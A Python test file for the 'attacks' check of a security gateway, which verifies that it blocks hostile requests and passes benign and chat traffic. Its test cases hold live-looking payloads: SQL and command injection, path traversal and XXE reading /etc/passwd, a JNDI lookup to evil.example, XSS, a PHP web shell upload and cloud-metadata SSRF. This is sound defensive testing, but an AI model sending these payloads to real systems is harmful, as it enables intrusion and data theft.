"""`attacks`: the check over real requests through a real gateway and upstream."""

from __future__ import annotations

import io
from pathlib import Path

import aiohttp
import openai
import orjson
import pytest
from openai import AsyncOpenAI
from pydantic import ValidationError

from tests.conftest import GatewayFactory, Upstream, policy_text
from wardgate.checks.attacks import Config
from wardgate.observe.query import EventQuery, query_events


@pytest.mark.parametrize(
    ("config", "error"),
    [
        ({}, None),
        ({"engine": "builtin", "paranoia": 4, "threshold": 10}, None),
        ({"paranoia": 5}, "less than or equal to 4"),
        ({"engine": "waf"}, "Input should be 'builtin' or 'crs'"),
        ({"body_limit": 10}, "greater than or equal to 131072"),
        ({"oversize": "inspect_prefix"}, None),
        ({"message_text": "prose"}, "Input should be 'natural' or 'interpreted'"),
    ],
)
def test_config(config: dict[str, object], error: str | None) -> None:
    if error is None:
        Config.model_validate(config)
        return
    with pytest.raises(ValidationError, match=error):
        Config.model_validate(config)


ROUTES = """
  - name: chat
    match: {path_prefix: /v1}
    upstream: up
    provider: openai
    checks:
      - type: attacks
        {mode}
  - name: api
    match: {path_prefix: /}
    upstream: up
    checks:
      - type: attacks
        {mode}
"""


async def _gateway(
    upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path, mode: str = "enforce"
) -> str:
    routes = ROUTES.replace("{mode}", f"mode: {mode}")
    gw = await make_gateway(policy_text(f'["{upstream.base}"]', routes, events_db=tmp_path / "e"))
    return gw.base


@pytest.fixture
async def base(upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path) -> str:
    """A gateway enforcing the attacks check on an AI route and a catch-all route."""
    return await _gateway(upstream, make_gateway, tmp_path)


def _typed(body: bytes | None, headers: dict[str, str]) -> dict[str, str]:
    """Bodies are JSON unless the case says otherwise."""
    if body is None or "Content-Type" in headers:
        return headers
    return {**headers, "Content-Type": "application/json"}


ATTACKS = [
    ("GET", "/items?id=1%27%20OR%20%271%27%3D%271", None, {}),
    ("GET", "/files?name=..%2F..%2F..%2Fetc%2Fpasswd", None, {}),
    ("GET", "/search", None, {"User-Agent": "${jndi:ldap://evil.example/a}"}),
    ("GET", "/search", None, {"Cookie": "session=abc; pref=<script>alert(1)</script>"}),
    ("POST", "/items", b'{"name": {"nested": ["x; cat /etc/passwd"]}}', {}),
    ("POST", "/items", b'{"user": {"$where": "sleep(5000)"}}', {}),
    (
        "POST",
        "/xml",
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        {"Content-Type": "application/xml"},
    ),
    (
        "POST",
        "/upload",
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="../../shell.php"\r\n\r\n'
        b"<?php system($_GET['c']); ?>\r\n--b--\r\n",
        {"Content-Type": "multipart/form-data; boundary=b"},
    ),
    ("GET", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", None, {}),
]


@pytest.mark.parametrize(("method", "path", "body", "headers"), ATTACKS)
async def test_attacks_in_every_part_are_refused_with_a_problem(
    upstream: Upstream,
    base: str,
    http: aiohttp.ClientSession,
    method: str,
    path: str,
    body: bytes | None,
    headers: dict[str, str],
) -> None:
    before = upstream.recorder.total
    async with http.request(
        method, base + path, data=body, headers=_typed(body, headers)
    ) as response:
        assert response.status == 403
        assert response.content_type == "application/problem+json"
        problem = orjson.loads(await response.read())
        assert problem["request_id"] == response.headers["X-Request-Id"]
        # The reason stays in the audit log; the client learns nothing about the rule.
        assert "rule" not in problem and "sqli" not in orjson.dumps(problem).decode()
    assert upstream.recorder.total == before


async def test_findings_are_recorded_with_rule_and_location(
    upstream: Upstream, make_gateway: GatewayFactory, http: aiohttp.ClientSession, tmp_path: Path
) -> None:
    routes = ROUTES.replace("{mode}", "mode: monitor")
    gw = await make_gateway(policy_text(f'["{upstream.base}"]', routes, events_db=tmp_path / "e"))
    async with http.get(gw.base + "/echo/items?id=1%20union%20select%20password%20from%20users"):
        pass
    await gw.flush_events()
    (event,) = query_events(tmp_path / "e", EventQuery())
    assert event["status"] == 200 and event["would_block"]
    findings = orjson.dumps(event).decode()
    assert "attack.sqli" in findings and "query:id" in findings
    assert "password" not in findings  # evidence is a hash, never the value


BENIGN = [
    ("GET", "/echo/items?id=42&sort=name&q=caf%C3%A9%20con%20leche", None, {}),
    ("GET", "/echo/search?q=union%20station%20to%20select%20street", None, {}),
    ("POST", "/echo/items", b'{"name": "O\'Brien & Sons", "tags": ["a", "b"], "n": 3}', {}),
    (
        "POST",
        "/echo/form",
        b"name=Jos%C3%A9+N%C3%BA%C3%B1ez&city=M%C3%A1laga",
        {"Content-Type": "application/x-www-form-urlencoded"},
    ),
]


@pytest.mark.parametrize(("method", "path", "body", "headers"), BENIGN)
async def test_ordinary_requests_pass(
    base: str,
    http: aiohttp.ClientSession,
    method: str,
    path: str,
    body: bytes | None,
    headers: dict[str, str],
) -> None:
    async with http.request(
        method, base + path, data=body, headers=_typed(body, headers)
    ) as response:
        assert response.status == 200


async def test_unparsable_json_is_refused_not_passed_uninspected(
    upstream: Upstream, make_gateway: GatewayFactory, http: aiohttp.ClientSession, tmp_path: Path
) -> None:
    base = await _gateway(upstream, make_gateway, tmp_path)
    broken = b'{"q": "fine", "x": '
    headers = {"Content-Type": "application/json"}
    async with http.post(base + "/items", data=broken, headers=headers) as response:
        assert response.status == 400
        assert response.content_type == "application/problem+json"


MESSAGES = [
    {"role": "system", "content": "You are a database tutor."},
    {
        "role": "user",
        "content": "How do I write a SQL UNION query? Is `SELECT name FROM users UNION "
        "SELECT name FROM admins WHERE 1=1 --` right, and what does ' OR '1'='1 do?",
    },
]


async def test_chat_text_about_sql_is_language_not_an_attack(
    upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path
) -> None:
    base = await _gateway(upstream, make_gateway, tmp_path)
    async with AsyncOpenAI(base_url=f"{base}/v1", api_key="demo-key", max_retries=0) as client:
        reply = await client.chat.completions.create(model="m", messages=MESSAGES)  # type: ignore[arg-type]
        assert reply.choices[0].message.content
        # Structured fields of the same call are still inspected...
        with pytest.raises(openai.PermissionDeniedError):
            await client.chat.completions.create(
                model="m",
                messages=MESSAGES,  # type: ignore[arg-type]
                user="x' OR '1'='1' --",
            )
        # ...and a JNDI lookup is refused even in prose: loggers expand it.
        with pytest.raises(openai.PermissionDeniedError):
            await client.chat.completions.create(
                model="m",
                messages=[{"role": "user", "content": "hi ${jndi:ldap://x.example/a}"}],
            )


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"<r><unclosed></r>", "application/xml"),
        (b'<?xml version="1.0"?><r a="1" a="2"/>', "text/xml"),
        (
            b"--b\r\nContent-Disposition: form-data; name=x\r\n\r\nno closing",
            "multipart/form-data; boundary=b",
        ),
        (b"no boundary at all", "multipart/form-data"),
        (b"\xff\xfe\x00{not json", "application/json"),
    ],
)
async def test_malformed_bodies_of_every_declared_type_are_refused(
    upstream: Upstream,
    make_gateway: GatewayFactory,
    http: aiohttp.ClientSession,
    tmp_path: Path,
    body: bytes,
    content_type: str,
) -> None:
    base = await _gateway(upstream, make_gateway, tmp_path)
    before = upstream.recorder.total
    headers = {"Content-Type": content_type}
    async with http.post(base + "/echo/items", data=body, headers=headers) as response:
        assert response.status == 400
        assert response.content_type == "application/problem+json"
    assert upstream.recorder.total == before


async def test_the_default_policy_inspects_for_attacks() -> None:
    from wardgate.cli import default_policy_path
    from wardgate.policy.load import load_policy

    policy = load_policy(default_policy_path())
    (chat,) = [route for route in policy.routes if route.name == "chat"]
    assert "attacks" in [check.type for check in chat.checks]


async def test_agent_traffic_with_tools_and_replayed_calls_passes(
    upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path
) -> None:
    """Tool descriptions and the calls a model made are model-written text, not parameters."""
    base = await _gateway(upstream, make_gateway, tmp_path)
    tools = [
        {
            "type": "function",
            "function": {
                "name": "run",
                "description": "Run a shell command such as `ls -la` or `cat /etc/hosts`.",
                "parameters": {
                    "type": "object",
                    "properties": {"cmd": {"type": "string", "description": "e.g. `id; uname -a`"}},
                },
            },
        }
    ]
    messages = [
        {"role": "user", "content": "List the files in /tmp"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {"name": "run", "arguments": '{"cmd": "ls -la /tmp; cat x.txt"}'},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "a.txt\nb.txt\n' OR 1=1 --"},
    ]
    async with AsyncOpenAI(base_url=f"{base}/v1", api_key="demo-key", max_retries=0) as client:
        reply = await client.chat.completions.create(
            model="m",
            messages=messages,  # type: ignore[arg-type]
            tools=tools,  # type: ignore[arg-type]
        )
        assert reply.choices[0].message is not None


async def test_a_body_longer_than_the_inspected_limit_is_refused(
    upstream: Upstream, make_gateway: GatewayFactory, http: aiohttp.ClientSession, tmp_path: Path
) -> None:
    base = await _gateway(upstream, make_gateway, tmp_path)
    body = b'{"pad": "' + b"a" * 1_100_000 + b'", "q": "1 union select password from users"}'
    headers = {"Content-Type": "application/json"}
    async with http.post(base + "/echo/items", data=io.BytesIO(body), headers=headers) as response:
        assert response.status == 413
